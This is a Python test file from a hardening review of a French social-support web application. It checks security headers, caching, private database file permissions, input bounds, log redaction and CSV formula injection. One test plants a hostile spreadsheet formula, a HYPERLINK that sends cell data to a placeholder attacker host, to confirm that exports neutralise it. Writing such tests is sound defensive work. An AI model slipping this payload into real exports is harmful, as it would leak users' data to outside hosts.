"""Issue 14, hardening: each finding of the review, as a test.

Headers (CSP without inline script, no framing, no referrer to other sites, HSTS behind secure
cookies, no-store on pages with personal data); a private SQLite file and instance folder; CSV cells
that a spreadsheet would run; huge ids in paths; a health check that writes and a clear 503 when the
database cannot; server logs without personal data or SQL parameters; bounded lengths on the inputs.
"""

from __future__ import annotations

import logging
import re
import stat
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event, select, update

from parcours_engine.domain.errors import ConflictError
from parcours_engine.persistence.db import database_url, make_engine
from parcours_engine.persistence.models import Account, Beneficiary, HealthCheck
from parcours_engine.persistence.uow import UnitOfWork
from parcours_engine.web import create_app
from tests.functional.conftest import World
from tests.functional.test_supervisors import _csv, _pathway
from tests.support import supervision as sv

TEMPLATES = Path(__file__).resolve().parents[2] / "src" / "parcours_engine" / "web" / "templates"


# -- headers --------------------------------------------------------------------------------------------


def test_every_response_carries_the_security_headers(world: World) -> None:
    pathway_id = world.start()
    client = world.client("conseiller")
    for url in ("/connexion", "/taches", f"/parcours/{pathway_id}", "/nulle-part", "/healthz"):
        headers = client.get(url).headers
        policy = headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy, url
        assert "frame-ancestors 'none'" in policy and headers["X-Frame-Options"] == "DENY", url
        assert headers["Referrer-Policy"] == "same-origin" and headers["X-Content-Type-Options"] == "nosniff"
        assert "Strict-Transport-Security" not in headers  # tests serve plain HTTP, cookies not secure
    api = world.api("conseiller").get(f"/pathways/{pathway_id}")
    assert "frame-ancestors 'none'" in api.headers["Content-Security-Policy"]


def test_hsts_when_cookies_are_secure(world: World, database_url: str) -> None:
    secure = create_app({"DATABASE_URL": database_url, "SECRET_KEY": "x", "CLOCK": world.clock})
    assert secure.config["SESSION_COOKIE_SECURE"] is True
    headers = secure.test_client().get("/connexion").headers
    assert headers["Strict-Transport-Security"].startswith("max-age=")


def test_pages_with_personal_data_are_never_stored_static_files_may_be(world: World) -> None:
    pathway_id = world.start()
    person_id = _person_of(world, pathway_id)
    client = world.client("conseiller")
    for url in (f"/personnes/{person_id}", f"/parcours/{pathway_id}", "/personnes?nom=Martin", "/taches"):
        assert client.get(url).headers["Cache-Control"] == "no-store", url
    assert world.api("conseiller").get(f"/beneficiaries/{person_id}").headers["Cache-Control"] == "no-store"
    assert client.get("/static/dist/app.css").headers.get("Cache-Control") != "no-store"


def test_no_template_has_an_inline_script_or_style() -> None:
    """What the CSP would refuse: inline <script> and <style>, style= and on...= attributes, javascript:."""
    inline = re.compile(
        r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=|\son[a-z]+=|javascript:", re.IGNORECASE
    )
    found = [
        f"{path.relative_to(TEMPLATES)}: {match.group(0)}"
        for path in TEMPLATES.rglob("*.html")
        for match in inline.finditer(path.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_only_the_studio_allows_style_attributes(world: World) -> None:
    studio = world.client("coordination").get("/studio/reference")
    assert "style-src-attr 'unsafe-inline'" in studio.headers["Content-Security-Policy"]
    elsewhere = world.client("coordination").get("/notifications")
    assert "style-src-attr" not in elsewhere.headers["Content-Security-Policy"]


# -- a private database ---------------------------------------------------------------------------------


def test_the_sqlite_database_and_its_folder_are_the_owners_only(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    engine = make_engine(database_url())  # the embedded database: instance/parcours.sqlite3
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE t (x INTEGER)")
        conn.exec_driver_sql("INSERT INTO t VALUES (1)")
        instance = tmp_path / "instance"
        for path in [instance / "parcours.sqlite3", *instance.glob("parcours.sqlite3-*")]:
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    engine.dispose()
    assert stat.S_IMODE(instance.stat().st_mode) == 0o700
    # A database made 0644 by an older version is made private again, its folder too.
    (instance / "parcours.sqlite3").chmod(0o644)
    instance.chmod(0o755)
    make_engine(database_url()).dispose()
    assert stat.S_IMODE((instance / "parcours.sqlite3").stat().st_mode) == 0o600
    assert stat.S_IMODE(instance.stat().st_mode) == 0o700


def test_a_new_database_elsewhere_is_created_private(tmp_path: Path) -> None:
    path = tmp_path / "nouveau" / "base.sqlite3"
    make_engine(f"sqlite:///{path}").dispose()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


# -- CSV formula injection -------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(world: World) -> None:
    sv.publish(world.sessions, world.clock)
    with world.sessions() as session, session.begin():
        session.execute(update(Account).where(Account.username == "collegue").values(display_name=HOSTILE))
    _pathway(world, referent="collegue")
    world.clock.advance(days=40)
    assert sv.sweep(world.sessions, world.clock).flagged == 1
    client = world.client("superviseur")
    caseloads = _csv(client.get(f"/supervision/?programme={sv.PROGRAMME}&format=csv&table=caseloads"))
    stalled = _csv(client.get("/supervision/blocages?format=csv"))
    cells = [cell for row in caseloads[1:] + stalled[1:] for cell in row]
    assert "'" + HOSTILE in cells  # shown as typed, read as text
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


# -- huge ids -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("huge", ["2147483648", "9223372036854775808", "9" * 40])
def test_huge_ids_in_paths_are_not_found(world: World, huge: str) -> None:
    client = world.client("administrateur")
    for url in (f"/parcours/{huge}", f"/personnes/{huge}", f"/admin/comptes/{huge}", f"/taches/{huge}"):
        assert client.get(url).status_code == 404, url
    api = world.api("conseiller")
    assert api.get(f"/pathways/{huge}").status_code == 404
    assert api.get(f"/beneficiaries/{huge}").status_code == 404


# -- the health check and a database that cannot write -----------------------------------------------


def test_healthz_writes(world: World) -> None:
    response = world.client().get("/healthz")
    assert response.status_code == 200 and response.get_json() == {"status": "ok"}
    with world.sessions() as session:
        assert session.scalar(select(HealthCheck.checked_at)) == world.clock.now()


def read_only(app: Any, database_url: str) -> None:
    """Every new connection of the app's engines refuses writes, as a read-only disk would."""
    engines = [app.extensions[name].kw["bind"] for name in ("parcours.sessions", "parcours.health")]
    for engine in engines:
        engine.dispose()
        if database_url.startswith("sqlite"):
            event.listen(engine, "connect", lambda conn, _r: conn.execute("PRAGMA query_only = ON"))
        else:
            event.listen(engine, "connect", _pg_read_only)


def _pg_read_only(conn: Any, _record: Any) -> None:
    conn.execute("SET default_transaction_read_only = on")
    conn.commit()  # a SET in a transaction rolled back would be undone


def test_a_database_that_cannot_write_answers_503_with_a_clear_page(world: World, database_url: str) -> None:
    client = world.client("accueil")
    read_only(world.app, database_url)
    health = client.get("/healthz")
    assert health.status_code == 503 and health.get_json() == {"status": "unavailable"}
    assert health.headers["Retry-After"]
    values = {"last_name": "Martin", "first_name": "Léa", "birth_date": "2004-03-01", "sex": "F"}
    refused = client.post("/personnes/nouvelle", values)
    assert refused.status_code == 503 and refused.headers["Retry-After"]
    assert "La base de données ne peut pas enregistrer pour l'instant" in unescape(
        refused.get_data(as_text=True)
    )
    api = world.api("accueil").post("/beneficiaries", {**values, "birth_date": "2004-03-01"})
    assert api.status_code == 503 and api.get_json()["code"] == "error.unavailable"


# -- logs -----------------------------------------------------------------------------------------------


def test_server_logs_carry_no_personal_data_nor_sql_parameters(
    world: World, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.INFO)  # more than the default (WARNING): nothing personal even so
    pathway_id = world.start(last_name="Zanzibar-Secret")
    person_id = _person_of(world, pathway_id)

    from parcours_engine.web.passport import passport as passport_feature

    def failing(*_args: Any, **_kwargs: Any) -> Any:
        raise ValueError("paraparser: syntax error in 'Zanzibar-Secret <b>'")  # as ReportLab said

    monkeypatch.setattr(passport_feature, "read", failing)
    assert world.client("conseiller").get(f"/personnes/{person_id}/passeport.pdf").status_code == 500
    # A lost race whose database error quotes the row: its values stay out of the log.
    unit = UnitOfWork(world.sessions)
    unit.session.add(Account(username="conseiller", display_name="Zanzibar-Secret", role="counsellor"))
    with pytest.raises(ConflictError):
        unit.commit()
    unit.close()
    world.client().post("/connexion", {"username": "Zanzibar-Secret", "password": "x"})
    logged = caplog.text
    assert "ValueError" in logged and "passport" in logged  # where it failed is still said
    assert "Zanzibar" not in logged and "conseiller" not in logged


# -- bounded inputs -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [("last_name", "M" * 121), ("first_name", "L" * 500), ("departement", "Allier"), ("territory", "t" * 41)],
)
def test_the_registration_form_refuses_values_too_long_for_their_field(
    world: World, field: str, value: str
) -> None:
    values = {
        "last_name": "Martin",
        "first_name": "Léa",
        "birth_date": "2004-03-01",
        "sex": "F",
        field: value,
    }
    refused = world.client("accueil").post("/personnes/nouvelle", values)
    assert refused.status_code == 400
    assert f'id="err-{field}"' in refused.get_data(as_text=True)
    api = world.api("accueil").post("/beneficiaries", values)
    assert api.status_code == 400 and field in api.get_json()["field_errors"]
    with world.sessions() as session:
        assert session.scalar(select(Beneficiary.id).where(Beneficiary.last_name == value)) is None


def test_searches_refuse_criteria_longer_than_any_name(world: World) -> None:
    assert world.client("conseiller").get("/personnes?nom=" + "x" * 500).status_code == 400
    assert world.api("conseiller").get("/beneficiaries?name=" + "x" * 500).status_code == 400


def test_a_request_body_is_bounded(world: World) -> None:
    client = world.client("accueil")
    huge = {"last_name": "x" * (17 * 1024 * 1024)}
    assert client.raw.post("/personnes/nouvelle", data=huge).status_code == 413


def _person_of(world: World, pathway_id: int) -> int:
    from parcours_engine.persistence.models import Pathway

    with world.sessions() as session:
        pathway = session.get(Pathway, pathway_id)
        assert pathway is not None
        return pathway.beneficiary_id


def test_huge_ids_in_queries_and_forms_are_never_a_500(world: World) -> None:
    huge = "9" * 30
    pathway_id = world.start()
    person_id = _person_of(world, pathway_id)
    item_id = world.open_item(pathway_id)
    counsellor, coordinator = world.client("conseiller"), world.client("coordination")
    answers = {
        "fait (tasks)": counsellor.get(f"/taches?fait={huge}"),
        "fait (pathways)": counsellor.get(f"/parcours?fait={huge}"),
        "transfer": counsellor.post(f"/parcours/{pathway_id}/referent", {"referent": huge}),
        "task version": world.client("accueil").post(f"/taches/{item_id}", {"version": huge}),
        "experience": counsellor.post(
            f"/personnes/{person_id}/passeport/competences",
            {"assessed_on": "2026-01-05", "experience_id": huge, "ponctualite": "acquise"},
        ),
        "consent": counsellor.post(
            f"/personnes/{person_id}/passeport/consentements",
            {"structure_id": huge, "given_on": "2026-01-05"},
        ),
        "versions": coordinator.get(f"/studio/reference/versions?ancienne={huge}&nouvelle={huge}"),
        "migration": coordinator.get(f"/studio/reference/migration?cible={huge}&parcours={huge}"),
        "migrate": coordinator.post("/studio/reference/migration", {"cible": huge, "parcours": huge}),
        "api transfer": world.api("conseiller").post(
            f"/pathways/{pathway_id}/referent", {"referent_id": 10**30}
        ),
        "api start": world.api("accueil").post(
            "/pathways", {"programme": "reference", "beneficiary_id": 10**30}
        ),
    }
    failed = {name: response.status_code for name, response in answers.items() if response.status_code >= 500}
    assert failed == {}
